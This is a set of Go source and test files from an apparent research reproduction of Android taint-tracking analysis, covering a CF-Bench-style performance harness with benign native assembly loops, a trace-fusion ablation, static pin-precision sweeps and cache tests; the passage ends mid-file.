// cost are made against this variant; the gated Run is the production
// default.
func RunNoGate(modes []core.Mode, scale, repeats int) (*Result, error) {
	return run(modes, scale, repeats, false)
}

func run(modes []core.Mode, scale, repeats int, gated bool) (*Result, error) {
	if scale < 1 {
		scale = 1
	}
	if repeats < 1 {
		repeats = 1
	}
	res := &Result{Modes: modes}
	for _, w := range Workloads() {
		row := Row{
			Name:     w.Name,
			Java:     w.Java,
			Score:    make(map[core.Mode]float64),
			Overhead: make(map[core.Mode]float64),
			Gate:     make(map[core.Mode]GateStats),
		}
		for _, mode := range modes {
			best := 0.0
			for r := 0; r < repeats; r++ {
				s, gs, err := measure(w, mode, scale, gated, false)
				if err != nil {
					return nil, fmt.Errorf("cfbench: %s under %s: %w", w.Name, mode, err)
				}
				if s > best {
					best = s
					row.Gate[mode] = gs
				}
			}
			row.Score[mode] = best
		}
		res.Rows = append(res.Rows, row)
	}
	res.finish()
	return res, nil
}

// finish computes overheads and the three aggregate score rows (geometric
// means, matching CF-Bench's aggregate style).
func (r *Result) finish() {
	vanillaIdx := core.ModeVanilla
	for i := range r.Rows {
		for _, mode := range r.Modes {
			v := r.Rows[i].Score[vanillaIdx]
			s := r.Rows[i].Score[mode]
			if s > 0 && v > 0 {
				r.Rows[i].Overhead[mode] = v / s
			}
		}
	}

	agg := func(name string, include func(Row) bool) Row {
		row := Row{
			Name:     name,
			Score:    make(map[core.Mode]float64),
			Overhead: make(map[core.Mode]float64),
		}
		for _, mode := range r.Modes {
			logSum, n := 0.0, 0
			for _, w := range r.Rows {
				if !include(w) || w.Score[mode] <= 0 {
					continue
				}
				logSum += math.Log(w.Score[mode])
				n++
			}
			if n > 0 {
				row.Score[mode] = math.Exp(logSum / float64(n))
			}
		}
		for _, mode := range r.Modes {
			v, s := row.Score[vanillaIdx], row.Score[mode]
			if v > 0 && s > 0 {
				row.Overhead[mode] = v / s
			}
		}
		return row
	}
	measured := len(r.Rows)
	isMeasured := func(w Row) bool {
		for i := 0; i < measured; i++ {
			if r.Rows[i].Name == w.Name {
				return true
			}
		}
		return false
	}
	nativeRow := agg("Native Score", func(w Row) bool { return isMeasured(w) && !w.Java })
	javaRow := agg("Java Score", func(w Row) bool { return isMeasured(w) && w.Java })
	overallRow := agg("Overall Score", isMeasured)
	r.Rows = append(r.Rows, nativeRow, javaRow, overallRow)
}

// RowByName retrieves a row.
func (r *Result) RowByName(name string) (Row, bool) {
	for _, row := range r.Rows {
		if row.Name == name {
			return row, true
		}
	}
	return Row{}, false
}

// JSON serializes the run for machine consumption (the -json flag of
// cmd/cfbench). Mode-indexed maps are re-keyed by mode name so the output is
// stable against renumbering of the Mode constants.
func (r *Result) JSON() ([]byte, error) {
	type jsonRow struct {
		Name     string               `json:"name"`
		Java     bool                 `json:"java"`
		Score    map[string]float64   `json:"score"`
		Overhead map[string]float64   `json:"overhead"`
		Gate     map[string]GateStats `json:"gate,omitempty"`
	}
	var out struct {
		Modes      []string            `json:"modes"`
		Rows       []jsonRow           `json:"rows"`
		Verdicts   *VerdictCounts      `json:"verdicts,omitempty"`
		Pins       []PinRow            `json:"pins,omitempty"`
		Throughput *ThroughputResult   `json:"throughput,omitempty"`
		Fuse       *FuseSweepResult    `json:"fuse,omitempty"`
		Cache      *CacheSweepResult   `json:"cache,omitempty"`
		Surface    *SurfaceSweepResult `json:"surface,omitempty"`
		Summary    *SummarySweepResult `json:"summary,omitempty"`
	}
	out.Summary = r.Summary
	out.Verdicts = r.Verdicts
	out.Pins = r.Pins
	out.Throughput = r.Throughput
	out.Fuse = r.Fuse
	out.Cache = r.Cache
	out.Surface = r.Surface
	for _, m := range r.Modes {
		out.Modes = append(out.Modes, m.String())
	}
	for _, row := range r.Rows {
		jr := jsonRow{
			Name:     row.Name,
			Java:     row.Java,
			Score:    make(map[string]float64, len(row.Score)),
			Overhead: make(map[string]float64, len(row.Overhead)),
		}
		for m, v := range row.Score {
			jr.Score[m.String()] = v
		}
		for m, v := range row.Overhead {
			jr.Overhead[m.String()] = v
		}
		for m, gs := range row.Gate {
			if gs == (GateStats{}) {
				continue
			}
			if jr.Gate == nil {
				jr.Gate = make(map[string]GateStats)
			}
			jr.Gate[m.String()] = gs
		}
		out.Rows = append(out.Rows, jr)
	}
	return json.MarshalIndent(&out, "", "  ")
}

// Report renders the Fig. 10 table: one line per row, overhead per mode.
func (r *Result) Report() string {
	var b strings.Builder
	fmt.Fprintf(&b, "%-22s", "CF-Bench row")
	for _, m := range r.Modes {
		if m == core.ModeVanilla {
			fmt.Fprintf(&b, " %14s", "vanilla ops/s")
			continue
		}
		fmt.Fprintf(&b, " %12s", m.String()+" ovh")
	}
	fmt.Fprintln(&b)
	for _, row := range r.Rows {
		fmt.Fprintf(&b, "%-22s", row.Name)
		for _, m := range r.Modes {
			if m == core.ModeVanilla {
				fmt.Fprintf(&b, " %14.0f", row.Score[m])
				continue
			}
			fmt.Fprintf(&b, " %11.2fx", row.Overhead[m])
		}
		fmt.Fprintln(&b)
	}
	for _, m := range r.Modes {
		var total GateStats
		for _, row := range r.Rows {
			gs := row.Gate[m]
			total.Flips += gs.Flips
			total.FastBlocks += gs.FastBlocks
			total.SlowBlocks += gs.SlowBlocks
			total.PinnedBlocks += gs.PinnedBlocks
			total.JavaTransMethods += gs.JavaTransMethods
			total.JavaCleanFrames += gs.JavaCleanFrames
			total.JavaTaintFrames += gs.JavaTaintFrames
			total.JavaGateBails += gs.JavaGateBails
			total.JavaDeopts += gs.JavaDeopts
			total.JavaPinnedFrames += gs.JavaPinnedFrames
		}
		if total.Flips+total.FastBlocks+total.SlowBlocks != 0 {
			fmt.Fprintf(&b, "taint gate (%s): %d flips, %d fast blocks, %d instrumented blocks, %d pinned blocks\n",
				m, total.Flips, total.FastBlocks, total.SlowBlocks, total.PinnedBlocks)
		}
		if total.JavaTransMethods+total.JavaCleanFrames+total.JavaTaintFrames != 0 {
			fmt.Fprintf(&b, "java translation (%s): %d methods, %d clean frames, %d taint frames, %d bails, %d deopts, %d pinned frames\n",
				m, total.JavaTransMethods, total.JavaCleanFrames, total.JavaTaintFrames,
				total.JavaGateBails, total.JavaDeopts, total.JavaPinnedFrames)
		}
	}
	if len(r.Pins) > 0 {
		b.WriteString("\nStatic pin precision:\n")
		b.WriteString(PinReport(r.Pins))
	}
	return b.String()
}
