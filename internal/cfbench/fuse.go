package cfbench

// Crossing ablation for cross-boundary trace fusion (fuse.go in internal/dvm):
// sweep the full evaluation corpus across every analysis mode twice — once
// with hot Dalvik→JNI→ARM chains compiled to fused closures, once with every
// crossing on the unfused bridge — and record per-cell crossing counts, fused
// chain builds, fused dispatches, and deopts. The two arms must agree byte
// for byte on every flow log and verdict; a mismatch is a soundness bug, and
// cmd/cfbench exits nonzero on it (the CI bench-smoke gate).

import (
	"fmt"
	"time"

	"repro/internal/apps"
	"repro/internal/core"
)

// FuseCell is one (app, mode) cell of the fusion ablation: verdicts from both
// arms plus the fused arm's trace-fusion counters.
type FuseCell struct {
	App  string `json:"app"`
	Mode string `json:"mode"`

	Crossings   uint64 `json:"crossings"`
	FusedChains uint64 `json:"fused_chains"`
	FusedCalls  uint64 `json:"fused_calls"`
	Deopts      uint64 `json:"deopts"`

	VerdictFused   string `json:"verdict_fused"`
	VerdictUnfused string `json:"verdict_unfused"`
}

// FuseSweepResult is the full crossing ablation.
type FuseSweepResult struct {
	Cells []FuseCell `json:"cells"`

	FusedSeconds   float64 `json:"fused_seconds"`
	UnfusedSeconds float64 `json:"unfused_seconds"`

	// ParityOK records the soundness check: byte-identical flow logs and
	// equal verdicts for every (app, mode) cell across the two arms.
	ParityOK     bool   `json:"parity_ok"`
	ParityDetail string `json:"parity_detail,omitempty"`
}

// FuseSweep runs the fusion ablation over apps x modes. budget 0 uses
// core.DefaultBudget. withOn / withOff select the arms (the cfbench -fuse
// flag); parity is only checked when both run.
func FuseSweep(budget uint64, withOn, withOff bool) (*FuseSweepResult, error) {
	res := &FuseSweepResult{ParityOK: true}
	type outcome struct {
		verdict core.Verdict
		log     string
	}
	run := func(app *apps.App, mode core.Mode, fuse core.FuseMode) (core.AppReport, float64) {
		start := time.Now()
		rep := core.AnalyzeApp(app.Spec(), core.AnalyzeOptions{
			Mode:    mode,
			Budget:  budget,
			FlowLog: true,
			Fuse:    fuse,
		})
		return rep, time.Since(start).Seconds()
	}
	for _, mode := range throughputModes() {
		for _, app := range apps.AllApps() {
			cell := FuseCell{App: app.Name, Mode: mode.String()}
			var on, off outcome
			if withOn {
				rep, secs := run(app, mode, core.FuseOn)
				res.FusedSeconds += secs
				r := rep.Final.Result
				cell.Crossings = r.JNICrossings
				cell.FusedChains = r.FusedChains
				cell.FusedCalls = r.FusedCalls
				cell.Deopts = r.FuseDeopts
				cell.VerdictFused = rep.Verdict().String()
				on = outcome{rep.Verdict(), joinLog(rep)}
			}
			if withOff {
				rep, secs := run(app, mode, core.FuseOff)
				res.UnfusedSeconds += secs
				r := rep.Final.Result
				if !withOn {
					cell.Crossings = r.JNICrossings
				}
				cell.VerdictUnfused = rep.Verdict().String()
				off = outcome{rep.Verdict(), joinLog(rep)}
			}
			res.Cells = append(res.Cells, cell)
			if withOn && withOff && res.ParityOK {
				switch {
				case on.verdict != off.verdict:
					res.ParityOK = false
					res.ParityDetail = fmt.Sprintf("%s/%s: verdict fused=%v unfused=%v",
						mode, app.Name, on.verdict, off.verdict)
				case on.log != off.log:
					res.ParityOK = false
					res.ParityDetail = fmt.Sprintf("%s/%s: flow log diverged", mode, app.Name)
				}
			}
		}
	}
	return res, nil
}

// String renders the ablation as a per-cell table plus totals.
func (f *FuseSweepResult) String() string {
	s := fmt.Sprintf("%-12s %-12s %10s %8s %8s %8s %10s %10s\n",
		"app", "mode", "crossings", "chains", "fused", "deopts", "v(fused)", "v(unfused)")
	var crossings, fused, deopts uint64
	for _, c := range f.Cells {
		s += fmt.Sprintf("%-12s %-12s %10d %8d %8d %8d %10s %10s\n",
			c.App, c.Mode, c.Crossings, c.FusedChains, c.FusedCalls, c.Deopts,
			c.VerdictFused, c.VerdictUnfused)
		crossings += c.Crossings
		fused += c.FusedCalls
		deopts += c.Deopts
	}
	s += fmt.Sprintf("totals: %d crossings, %d served fused, %d deopts\n", crossings, fused, deopts)
	if f.FusedSeconds > 0 && f.UnfusedSeconds > 0 {
		s += fmt.Sprintf("sweep wall clock: fused %.3fs, unfused %.3fs\n", f.FusedSeconds, f.UnfusedSeconds)
		if f.ParityOK {
			s += "parity: OK (flow logs and verdicts byte-identical across arms)\n"
		} else {
			s += "parity: MISMATCH — " + f.ParityDetail + "\n"
		}
	}
	return s
}
