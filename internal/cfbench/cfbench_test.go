package cfbench

import (
	"testing"

	"repro/internal/core"
)

// TestWorkloadsRunInAllModes smoke-tests every workload under every mode at
// a heavy scale factor.
func TestWorkloadsRunInAllModes(t *testing.T) {
	modes := []core.Mode{core.ModeVanilla, core.ModeTaintDroid, core.ModeNDroid, core.ModeDroidScope}
	for _, w := range Workloads() {
		w := w
		t.Run(w.Name, func(t *testing.T) {
			for _, mode := range modes {
				score, gs, err := Measure(w, mode, 100)
				if err != nil {
					t.Fatalf("%s under %s: %v", w.Name, mode, err)
				}
				if score <= 0 {
					t.Errorf("%s under %s: nonpositive score", w.Name, mode)
				}
				// Clean CF-Bench workloads never see taint, so NDroid's
				// block dispatch must stay entirely on the fast path.
				if mode == core.ModeNDroid {
					if !w.Java && gs.FastBlocks == 0 {
						t.Errorf("%s under ndroid: no fast-path blocks (gate not engaged)", w.Name)
					}
					if gs.SlowBlocks != 0 {
						t.Errorf("%s under ndroid: %d instrumented blocks on a clean run", w.Name, gs.SlowBlocks)
					}
				}
			}
		})
	}
}

// TestFig10Shape runs a reduced Fig. 10 and checks the qualitative shape the
// paper reports: native compute loops suffer far more than Java-side rows
// and modeled rows (MALLOCS, disk), and NDroid stays well below DroidScope
// overall.
func TestFig10Shape(t *testing.T) {
	if testing.Short() {
		t.Skip("timing-based")
	}
	// The paper's Fig. 10 measures always-on instrumentation; the taint
	// gate would let clean workloads skip most of it (see BenchmarkGateOnOff
	// for that comparison), so the shape assertions use the ungated runner.
	modes := []core.Mode{core.ModeVanilla, core.ModeNDroid, core.ModeDroidScope}
	res, err := RunNoGate(modes, 5, 3)
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("\n%s", res.Report())

	get := func(name string, m core.Mode) float64 {
		row, ok := res.RowByName(name)
		if !ok {
			t.Fatalf("missing row %s", name)
		}
		return row.Overhead[m]
	}

	nd := core.ModeNDroid
	ds := core.ModeDroidScope
	// Native instruction-heavy rows must show clear tracer cost. (Absolute
	// magnitudes are compressed versus the paper — our baseline interpreter
	// is far slower than QEMU-translated code — see DESIGN.md §5; the
	// assertions below check the orderings the paper's Fig. 10 exhibits.)
	nativeMIPS := get("Native MIPS", nd)
	mallocs := get("Native MALLOCS", nd)
	javaMIPS := get("Java MIPS", nd)
	if nativeMIPS < 1.2 {
		t.Errorf("Native MIPS overhead = %.2f, want clearly > 1 (tracer cost)", nativeMIPS)
	}
	// Modeled allocator stays near 1x (paper: 1.03x) and well below the
	// traced compute rows.
	if mallocs > 1.35 {
		t.Errorf("modeled MALLOCS overhead = %.2f, want near 1x", mallocs)
	}
	if !(nativeMIPS > mallocs) {
		t.Errorf("Native MIPS (%.2f) should exceed modeled MALLOCS (%.2f)", nativeMIPS, mallocs)
	}
	// The Java side pays TaintDroid's factor (paper: 1.0-2.2x).
	if javaMIPS > 3.0 {
		t.Errorf("Java MIPS overhead = %.2f, want small", javaMIPS)
	}
	// DroidScope pays where NDroid does not: on the modeled allocator (it
	// traces the allocator body NDroid models away)...
	if !(get("Native MALLOCS", ds) > mallocs) {
		t.Errorf("DroidScope MALLOCS (%.2f) should exceed NDroid's (%.2f)",
			get("Native MALLOCS", ds), mallocs)
	}
	// ...and on the Java side (per-instruction semantic reconstruction).
	if !(get("Java Score", ds) > get("Java Score", nd)) {
		t.Error("DroidScope Java-side overhead should exceed NDroid's")
	}
	// NDroid overall must undercut DroidScope overall (paper: 5.45x vs 11x+).
	ndOverall := get("Overall Score", nd)
	dsOverall := get("Overall Score", ds)
	if !(ndOverall < dsOverall) {
		t.Errorf("NDroid overall (%.2f) should be below DroidScope overall (%.2f)", ndOverall, dsOverall)
	}
}

// BenchmarkGateOnOff compares NDroid with the taint-presence gate against
// the always-instrumented configuration on clean native compute rows — the
// wall-clock win of running untainted phases on bare translated blocks.
// Setup (system build, assembly, install) happens per iteration in both
// variants; the reported gated-score/ungated-score metric is computed from
// the workloads' own timed sections, which exclude setup.
func BenchmarkGateOnOff(b *testing.B) {
	for _, name := range []string{"Native MIPS", "Native Memory Read"} {
		var w Workload
		for _, cand := range Workloads() {
			if cand.Name == name {
				w = cand
			}
		}
		for _, gated := range []bool{true, false} {
			label := "/gate"
			if !gated {
				label = "/nogate"
			}
			b.Run(w.Name+label, func(b *testing.B) {
				best := 0.0
				for i := 0; i < b.N; i++ {
					s, _, err := measure(w, core.ModeNDroid, 4, gated, false)
					if err != nil {
						b.Fatal(err)
					}
					if s > best {
						best = s
					}
				}
				b.ReportMetric(best, "ops/s")
			})
		}
	}
}

// TestWorkloadCorrectness: results must be mode-independent (instrumentation
// must not change behaviour). The disk workload leaves a verifiable file.
func TestWorkloadCorrectness(t *testing.T) {
	for _, mode := range []core.Mode{core.ModeVanilla, core.ModeNDroid} {
		sys, err := core.NewSystem()
		if err != nil {
			t.Fatal(err)
		}
		w := Workloads()[12] // Native Disk Write
		if w.Name != "Native Disk Write" {
			t.Fatal("workload order changed")
		}
		if err := w.install(sys, 100); err != nil {
			t.Fatal(err)
		}
		sys.Kern.FS.WriteFile("/data/cfbench.dat", make([]byte, 8192))
		core.NewAnalyzer(sys, mode)
		if _, _, _, err := sys.VM.InvokeByName(w.entryClass, "run", nil, nil); err != nil {
			t.Fatalf("mode %s: %v", mode, err)
		}
		content, ok := sys.Kern.FS.ReadFile("/data/cfbench.dat")
		if !ok || len(content) != 1024*(opsDisk/100) {
			t.Errorf("mode %s: file size %d, want %d", mode, len(content), 1024*(opsDisk/100))
		}
	}
}
