package cfbench

import (
	"fmt"
	"strings"

	"repro/internal/apps"
	"repro/internal/core"
	"repro/internal/static"
)

// PinRow is one app's static pin-precision record: how much of the program
// the pre-analysis proved taint-unreachable, and how often the pinned
// variants actually dispatched during a gated NDroid run.
type PinRow struct {
	App     string `json:"app"`
	Hostile bool   `json:"hostile,omitempty"`

	Methods       int  `json:"methods"`
	PinnedMethods int  `json:"pinnedMethods"`
	NativePages   int  `json:"nativePages"`
	PinnedPages   int  `json:"pinnedPages"`
	TaintFree     bool `json:"taintFree,omitempty"`
	LintFindings  int  `json:"lintFindings,omitempty"`

	// Dynamic confirmation: pinned-variant dispatch counts from a gated
	// NDroid run with the pins applied.
	PinnedFrames uint64 `json:"pinnedFrames,omitempty"`
	PinnedBlocks uint64 `json:"pinnedBlocks,omitempty"`
}

// PinSweep runs the static pre-analysis over the whole evaluation corpus and
// confirms each pin set dynamically: every app is analyzed, pinned, and run
// once under gated NDroid, recording how often the pinned variants fired.
// Hostile apps are analyzed but not run (their dynamic behavior is the
// robustness sweep's business).
func PinSweep(budget uint64) ([]PinRow, error) {
	var rows []PinRow
	for _, app := range apps.AllApps() {
		sys, err := core.NewSystem()
		if err != nil {
			return nil, err
		}
		if err := app.Install(sys); err != nil {
			return nil, fmt.Errorf("cfbench: installing %s: %w", app.Name, err)
		}
		r := static.Analyze(sys.VM, app.EntryClass, app.EntryMethod)
		row := PinRow{
			App:           app.Name,
			Hostile:       app.Hostile,
			Methods:       r.Methods,
			PinnedMethods: r.PinnedMethods,
			NativePages:   r.NativePages,
			PinnedPages:   r.PinnedPages,
			TaintFree:     r.TaintFree,
			LintFindings:  len(r.Findings),
		}
		if !app.Hostile {
			a := core.NewAnalyzer(sys, core.ModeNDroid)
			a.Budget = budget
			r.Apply(sys.VM)
			res := a.Run(app.EntryClass, app.EntryMethod, nil, nil)
			if res.Verdict != core.VerdictClean && res.Verdict != core.VerdictLeak {
				return nil, fmt.Errorf("cfbench: pin-confirm run of %s: %v (%v)",
					app.Name, res.Verdict, res.Fault)
			}
			row.PinnedFrames = sys.VM.JavaPinnedFrames
			row.PinnedBlocks = sys.CPU.GatePinnedBlocks
		}
		rows = append(rows, row)
	}
	return rows, nil
}

// PinReport renders the pin-precision table.
func PinReport(rows []PinRow) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%-14s %8s %8s %8s %8s %6s %8s %8s\n",
		"app", "methods", "pinned", "pages", "pinned", "lint", "frames", "blocks")
	for _, r := range rows {
		name := r.App
		if r.Hostile {
			name += "*"
		}
		fmt.Fprintf(&b, "%-14s %8d %8d %8d %8d %6d %8d %8d\n",
			name, r.Methods, r.PinnedMethods, r.NativePages, r.PinnedPages,
			r.LintFindings, r.PinnedFrames, r.PinnedBlocks)
	}
	b.WriteString("(* hostile: analyzed statically, not run; frames/blocks are pinned-variant dispatches)\n")
	return b.String()
}
