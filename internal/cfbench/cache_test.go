package cfbench

import "testing"

// TestCacheSweep runs the full cache ablation under a tight budget: all four
// regimes must complete, parity must hold, the warm arm must replay every
// verdict (and clear the speedup floor over cold), and the shared-library
// arm must reuse every assembled image.
func TestCacheSweep(t *testing.T) {
	res, err := CacheSweep(1<<21, true, true, t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	if !res.ParityOK {
		t.Fatalf("parity mismatch: %s", res.ParityDetail)
	}
	if res.NoCache == nil || res.Cold == nil || res.Warm == nil || res.SharedLib == nil {
		t.Fatal("missing an ablation arm")
	}
	if res.Cold.Computed == 0 || res.Cold.StorePuts == 0 {
		t.Errorf("cold arm computed %d apps with %d puts; the store never filled",
			res.Cold.Computed, res.Cold.StorePuts)
	}
	if res.Warm.Computed != 0 || res.Warm.VerdictHits == 0 {
		t.Errorf("warm arm computed=%d verdictHits=%d, want all replayed",
			res.Warm.Computed, res.Warm.VerdictHits)
	}
	if res.WarmSpeedup < WarmSpeedupFloor {
		t.Errorf("warm speedup %.2fx, floor %.1fx", res.WarmSpeedup, WarmSpeedupFloor)
	}
	if res.SharedLib.AsmAssembles != 0 {
		t.Errorf("sharedlib arm ran the assembler %d times, want 0", res.SharedLib.AsmAssembles)
	}
	if res.SharedLib.AsmCacheHits == 0 {
		t.Error("sharedlib arm never hit the assembled-image store")
	}
}

// TestCacheSweepSingleArm checks the off-only shape: an uncached arm reports
// throughput, no store traffic, and no speedup claim.
func TestCacheSweepSingleArm(t *testing.T) {
	res, err := CacheSweep(1<<21, true, false, "")
	if err != nil {
		t.Fatal(err)
	}
	if res.Cold != nil || res.Warm != nil || res.SharedLib != nil {
		t.Error("cached arms present on uncached-only run")
	}
	if res.WarmSpeedup != 0 {
		t.Errorf("speedup = %v on single-arm run, want 0", res.WarmSpeedup)
	}
	if res.NoCache == nil || res.NoCache.AppsPerSec <= 0 {
		t.Error("uncached arm missing or reports no throughput")
	}
	if res.NoCache != nil && (res.NoCache.StorePuts != 0 || res.NoCache.StoreHits != 0) {
		t.Error("uncached arm reports store traffic")
	}
}
