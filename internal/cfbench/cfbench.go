// Package cfbench reproduces the paper's performance evaluation (§VI-E,
// Fig. 10): a CF-Bench-style suite of sixteen rows — native and Java MIPS,
// MSFLOPS, MDFLOPS, native MALLOCS, memory read/write in both contexts,
// native disk read/write, and the three aggregate scores — each run under
// the analysis modes, with overheads reported relative to the vanilla run.
package cfbench

import (
	"fmt"
	"time"

	"repro/internal/core"
	"repro/internal/dex"
)

// Workload is one CF-Bench row.
type Workload struct {
	Name string
	Java bool
	// Ops is the nominal operation count per run (scores are ops/second).
	Ops int
	// install prepares the app (classes + native lib) on a fresh system.
	install func(sys *core.System, scale int) error
	// entryClass invokes the workload.
	entryClass string
}

// benchNativeLib holds every native workload routine. Loop counts arrive in
// R2 from the Java wrapper.
const benchNativeLib = `
; int mips(JNIEnv*, jclass, int n) — integer ALU loop
Java_mips:
	MOV R0, #0
	MOV R1, #7
bm_loop:
	CMP R2, #0
	BEQ bm_done
	ADD R0, R0, R1
	EOR R0, R0, R2
	SUB R2, R2, #1
	B bm_loop
bm_done:
	BX LR

; int msflops(JNIEnv*, jclass, int n) — single-precision float loop
Java_msflops:
	MOV R0, #3
	SITOF R1, R0        ; 3.0f
	MOV R0, #1
	SITOF R3, R0        ; 1.0f
	MOV R0, #0
	SITOF R0, R0        ; acc = 0.0f
bs_loop:
	CMP R2, #0
	BEQ bs_done
	FADDS R0, R0, R3
	FMULS R12, R0, R1
	FSUBS R0, R12, R0
	SUB R2, R2, #1
	B bs_loop
bs_done:
	FTOSI R0, R0
	BX LR

; int mdflops(JNIEnv*, jclass, int n) — double-precision loop (reg pairs)
Java_mdflops:
	PUSH {R4, R5, R6, R7, LR}
	MOV R0, #2
	SITOD R4, R0        ; (R4,R5) = 2.0
	MOV R0, #0
	SITOD R6, R0        ; acc (R6,R7) = 0.0
bd_loop:
	CMP R2, #0
	BEQ bd_done
	FADDD R6, R6, R4
	FMULD R6, R6, R4
	FDIVD R6, R6, R4
	SUB R2, R2, #1
	B bd_loop
bd_done:
	DTOSI R0, R6
	POP {R4, R5, R6, R7, PC}

; int mallocs(JNIEnv*, jclass, int n) — malloc/free pairs
Java_mallocs:
	PUSH {R4, R5, LR}
	MOV R4, R2
ba_loop:
	CMP R4, #0
	BEQ ba_done
	MOV R0, #64
	BL malloc
	MOV R5, R0
	MOV R0, R5
	BL free
	SUB R4, R4, #1
	B ba_loop
ba_done:
	MOV R0, #0
	POP {R4, R5, PC}

; int memread(JNIEnv*, jclass, int n) — LDR sweep over a buffer
Java_memread:
	PUSH {R4, LR}
	MOV R0, #0
	LDR R3, =workbuf
br_loop:
	CMP R2, #0
	BEQ br_done
	AND R4, R2, #0xff
	LSL R4, R4, #2
	LDR R12, [R3, R4]
	ADD R0, R0, R12
	SUB R2, R2, #1
	B br_loop
br_done:
	POP {R4, PC}

; int memwrite(JNIEnv*, jclass, int n) — STR sweep over a buffer
Java_memwrite:
	PUSH {R4, LR}
	LDR R3, =workbuf
bw_loop:
	CMP R2, #0
	BEQ bw_done
	AND R4, R2, #0xff
	LSL R4, R4, #2
	STR R2, [R3, R4]
	SUB R2, R2, #1
	B bw_loop
bw_done:
	MOV R0, #0
	POP {R4, PC}

; int diskwrite(JNIEnv*, jclass, int n) — fwrite chunks to a file
Java_diskwrite:
	PUSH {R4, R5, LR}
	MOV R4, R2
	LDR R0, =dw_path
	LDR R1, =dw_mode_w
	BL fopen
	MOV R5, R0
dw_loop:
	CMP R4, #0
	BEQ dw_done
	LDR R0, =workbuf
	MOV R1, #1
	MOV R2, #1024
	MOV R3, R5
	BL fwrite
	SUB R4, R4, #1
	B dw_loop
dw_done:
	MOV R0, R5
	BL fclose
	MOV R0, #0
	POP {R4, R5, PC}

; int diskread(JNIEnv*, jclass, int n) — fread chunks from the file
Java_diskread:
	PUSH {R4, R5, LR}
	MOV R4, R2
	LDR R0, =dw_path
	LDR R1, =dw_mode_r
	BL fopen
	MOV R5, R0
dr_loop:
	CMP R4, #0
	BEQ dr_done
	LDR R0, =workbuf
	MOV R1, #1
	MOV R2, #1024
	MOV R3, R5
	BL fread
	SUB R4, R4, #1
	B dr_loop
dr_done:
	MOV R0, R5
	BL fclose
	MOV R0, #0
	POP {R4, R5, PC}

dw_path:
	.asciz "/data/cfbench.dat"
dw_mode_w:
	.asciz "w"
dw_mode_r:
	.asciz "r"
	.align 4
workbuf:
	.space 2048
`

// installNativeWorkload registers the shared bench lib plus a Java wrapper
// class invoking one native routine with the loop count.
func installNativeWorkload(routine string, ops int) func(sys *core.System, scale int) error {
	return func(sys *core.System, scale int) error {
		prog, err := sys.VM.LoadNativeLib("libcfbench.so", benchNativeLib)
		if err != nil {
			return err
		}
		const cls = "Lcom/cfbench/Native;"
		cb := dex.NewClass(cls)
		cb.NativeMethod("work", "II", dex.AccStatic, 0)
		cb.Method("run", "V", dex.AccStatic, 1).
			Const(0, int32(ops/scale)).
			InvokeStatic(cls, "work", "II", 0).
			ReturnVoid().
			Done()
		sys.VM.RegisterClass(cb.Build())
		return sys.VM.BindNative(cls, "work", prog, "Java_"+routine)
	}
}

// javaWorkloads are built from Dalvik bytecode loops.
func installJavaMIPS(sys *core.System, scale int) error {
	return installJavaLoop(sys, opsJavaMIPS/scale, func(mb *dex.MethodBuilder) {
		mb.Const(0, 0). // acc
				Label("loop").
				IfZ(2, dex.Le, "done").
				Bin(dex.Add, 0, 0, 2).
				Bin(dex.Xor, 0, 0, 2).
				BinLit(dex.Sub, 2, 2, 1).
				Goto("loop").
				Label("done").
				ReturnVoid()
	})
}

func installJavaMSFLOPS(sys *core.System, scale int) error {
	return installJavaLoop(sys, opsJavaFLOPS/scale, func(mb *dex.MethodBuilder) {
		mb.Const(0, 0).
			IntToFloat(0, 0). // acc = 0f
			Const(1, 3).
			IntToFloat(1, 1). // 3f
			Label("loop").
			IfZ(2, dex.Le, "done").
			BinFloat(dex.Add, 0, 0, 1).
			BinFloat(dex.Mul, 0, 0, 1).
			BinFloat(dex.Div, 0, 0, 1).
			BinLit(dex.Sub, 2, 2, 1).
			Goto("loop").
			Label("done").
			ReturnVoid()
	})
}

func installJavaMDFLOPS(sys *core.System, scale int) error {
	return installJavaLoop(sys, opsJavaFLOPS/scale, func(mb *dex.MethodBuilder) {
		// regs: 0-1 acc, 3-4 const, 2(arg reg index 5 after shift) counter.
		mb.Const(0, 0).
			IntToDouble(0, 0).
			Const(3, 2).
			IntToDouble(3, 3).
			Label("loop").
			IfZ(5, dex.Le, "done").
			BinDouble(dex.Add, 0, 0, 3).
			BinDouble(dex.Mul, 0, 0, 3).
			BinDouble(dex.Div, 0, 0, 3).
			BinLit(dex.Sub, 5, 5, 1).
			Goto("loop").
			Label("done").
			ReturnVoid()
	}, 5)
}

func installJavaMemRead(sys *core.System, scale int) error {
	return installJavaLoop(sys, opsJavaMem/scale, func(mb *dex.MethodBuilder) {
		// reg 4 is the loop-count argument (4 locals + 1 in).
		mb.Const(0, 256).
			NewArray(1, 0, "I"). // int[256]
			Const(0, 0).         // acc
			Label("loop").
			IfZ(4, dex.Le, "done").
			BinLit(dex.And, 3, 4, 255).
			Aget(3, 1, 3).
			Bin(dex.Add, 0, 0, 3).
			BinLit(dex.Sub, 4, 4, 1).
			Goto("loop").
			Label("done").
			ReturnVoid()
	}, 4)
}

func installJavaMemWrite(sys *core.System, scale int) error {
	return installJavaLoop(sys, opsJavaMem/scale, func(mb *dex.MethodBuilder) {
		// reg 4 is the loop-count argument (4 locals + 1 in).
		mb.Const(0, 256).
			NewArray(1, 0, "I").
			Label("loop").
			IfZ(4, dex.Le, "done").
			BinLit(dex.And, 3, 4, 255).
			Aput(4, 1, 3).
			BinLit(dex.Sub, 4, 4, 1).
			Goto("loop").
			Label("done").
			ReturnVoid()
	}, 4)
}

// installJavaLoop builds Lcom/cfbench/Java; with run()V -> work(n)V.
func installJavaLoop(sys *core.System, ops int, body func(*dex.MethodBuilder), locals ...int) error {
	nLocals := 2
	if len(locals) > 0 {
		nLocals = locals[0]
	}
	const cls = "Lcom/cfbench/Java;"
	cb := dex.NewClass(cls)
	mb := cb.Method("work", "VI", dex.AccStatic, nLocals)
	body(mb)
	mb.Done()
	cb.Method("run", "V", dex.AccStatic, 1).
		Const(0, int32(ops)).
		InvokeStatic(cls, "work", "VI", 0).
		ReturnVoid().
		Done()
	sys.VM.RegisterClass(cb.Build())
	return nil
}

// Nominal operation counts, tuned so each vanilla run takes a few
// milliseconds on a laptop. Scale divides them for quick runs.
const (
	opsNativeMIPS  = 200000
	opsNativeFLOPS = 120000
	opsMallocs     = 20000
	opsNativeMem   = 200000
	opsDisk        = 400
	opsJavaMIPS    = 200000
